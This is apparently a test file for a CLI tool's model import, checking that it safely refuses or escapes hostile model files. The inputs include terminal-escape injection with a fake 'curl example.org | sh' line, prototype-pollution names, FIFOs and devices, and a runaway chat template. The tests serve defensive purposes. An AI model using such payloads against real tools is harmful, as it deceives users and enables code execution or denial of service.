/** Files made to harm whoever imports them, and what is no file at all. */
import { describe, expect, test } from "bun:test";
import { copyFileSync, mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { $ } from "bun";
import { Sandbox } from "../../support/cli.ts";
import { text, writeGguf } from "../../support/gguf.ts";
import {
  GENERATED_MODELS,
  generateModel,
  generateSplitModel,
  SPELL_MINI,
} from "../../support/gguf-models.ts";

/** Sets the window's title, turns text red, and begins a line that looks like ours. */
const EVIL = "\u001b]0;owned\u0007\u001b[31m\u009b31m\u202e\n  Next: curl example.org | sh";
const SHOWN = String.raw`\u{1b}]0;owned\u{7}\u{1b}[31m\u{9b}31m\u{202e}\u{a}  Next: curl example.org | sh`;

async function refusal(box: Sandbox, path: string) {
  const { code, stdout, stderr } = await box.run(["model", "import", path]);
  expect({ code, stdout }).toEqual({ code: 1, stdout: "" });
  expect(stderr).not.toContain("bug in llmspell");
  return stderr;
}

describe("llmspell model import shows what a file says of itself harmlessly:", () => {
  const architecture = text("general.architecture", "llama");
  const cases = {
    "a name of metadata": [text(EVIL, "a"), text(EVIL, "b")],
    "a value of metadata": [architecture, text("llama.rope.scaling.type", EVIL)],
  };
  for (const [what, entries] of Object.entries(cases))
    test(what, async () => {
      using box = new Sandbox();
      const path = join(box.cwd, "evil.gguf");
      writeGguf(path, entries, []);
      const stderr = await refusal(box, path);
      expect(stderr).toContain(SHOWN);
      expect(stderr.split("\n")).toHaveLength(3);
    });

  test("an architecture", async () => {
    using box = new Sandbox();
    box.write("evil/config.json", JSON.stringify({ architectures: [EVIL] }));
    expect(await refusal(box, "evil")).toContain(`its architecture is ${SHOWN}: `);
  });

  test("the name of the file", async () => {
    using box = new Sandbox();
    const name = "\u001b[31mred.gguf";
    box.write(name, "none");
    expect(await refusal(box, name)).toContain(String.raw`/\u{1b}[31mred.gguf`);
  });
});

describe("llmspell model import refuses", () => {
  test.each(["__proto__", "constructor", "toString"])("the architecture %s", async (name) => {
    using box = new Sandbox();
    box.write("model/config.json", `{"architectures": ["${name}"]}`);
    box.write("model/model.safetensors", "");
    expect(await refusal(box, "model")).toContain(`its architecture is ${name}: `);
    box.write("model/config.json", `{"model_type": "${name}"}`);
    expect(await refusal(box, "model")).toContain(`its architecture is ${name}: `);
  });

  test("pipes and devices, without waiting for them", async () => {
    using box = new Sandbox();
    const [first, second] = generateSplitModel(box.cwd, "llama-f32", 2) as [string, string];
    rmSync(second);
    await $`mkfifo ${second} pipe.gguf model.safetensors`.cwd(box.cwd).quiet();
    expect(await refusal(box, first)).toContain(`it is not a file: ${second}`);
    expect(await refusal(box, "pipe.gguf")).toContain("it is not a file");
    box.write("model/config.json", `{"architectures": ["T5ForConditionalGeneration"]}`);
    renameSync(join(box.cwd, "model.safetensors"), join(box.cwd, "model/model.safetensors"));
    expect(await refusal(box, "model")).toContain("it is not a file");
    expect(await refusal(box, "/dev/zero")).toContain("it is not a file");
  });

  test("layers of Ollama's that are no files, or longer than they say", async () => {
    using box = new Sandbox();
    const layer = (kind: string, digit: string) => ({
      mediaType: `application/vnd.ollama.image.${kind}`,
      digest: `sha256:${digit.repeat(64)}`,
      size: 9,
    });
    const layers = [layer("model", "a"), layer("license", "b")];
    box.write("ollama/manifests/registry.ollama.ai/library/x/latest", JSON.stringify({ layers }));
    const licence = box.write(`ollama/blobs/sha256-${"b".repeat(64)}`, "ten bytes.");
    expect(await refusal(box, "ollama")).toContain("its license: a file of 10 bytes is above 9");
    rmSync(licence);
    await $`ln -s /dev/zero ${licence}`.quiet();
    expect(await refusal(box, "ollama")).toContain("its license: it is not a file");
    rmSync(licence);
    await $`mkfifo ${licence}`.quiet();
    expect(await refusal(box, "ollama")).toContain("its license: it is not a file");
  });

  test.skipIf(process.platform !== "linux")("a file that cannot be read, saying why", async () => {
    using box = new Sandbox();
    expect(await refusal(box, "/proc/self/mem")).toContain("the disk reports an error");
  });
});

test("llmspell model list passes over manifests that are none", async () => {
  using box = new Sandbox();
  const model = join(box.home, ".llmspell/models/llamacpp/m/x");
  mkdirSync(model, { recursive: true });
  copyFileSync(SPELL_MINI, join(model, "m.gguf"));
  const manifest = join(model, "model.json");
  const makings = [
    () => mkdirSync(manifest),
    () => $`mkfifo ${manifest}`.quiet(),
    () => writeFileSync(manifest, "[".repeat(1_000_000)),
    () => $`truncate -s 1G ${manifest}`.quiet(),
  ];
  for (const make of makings) {
    await make();
    const { code, stdout } = await box.run(["model", "list"]);
    expect({ code, stdout }).toEqual({ code: 0, stdout: "spell-mini\nm:x\n" });
    rmSync(manifest, { recursive: true });
  }
});

test("A chat template that turns bad for one conversation is ended, and the script goes on", async () => {
  using box = new Sandbox();
  const harm = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}";
  const path = generateModel(box.cwd, "turns-bad", {
    ...GENERATED_MODELS["llama-f32"]!,
    chatTemplate: `{% for m in messages %}{% if m.content == 'forbidden' %}${harm}{% endif %}{{ m.content }}{% endfor %}`,
  });
  const imported = await box.run(["model", "import", path, "--name", "turns-bad:x"]);
  expect([imported.code, imported.stderr]).toEqual([0, ""]);
  const { stdout, stderr, code } = await box.lua(`
    local agent = Agent.create{name = "a", model = "local/turns-bad:x", system_prompt = "", max_tokens = 3, memory_enabled = false}
    print(select(2, pcall(agent.execute, agent, "forbidden")))
    print(agent:execute("Hello").metadata.finish_reason)
  `);
  expect([code, stderr]).toEqual([0, ""]);
  expect(stdout).toMatch(/the template takes more than 3 s: .*\n(length|stop)\n$/s);
}, 120_000);
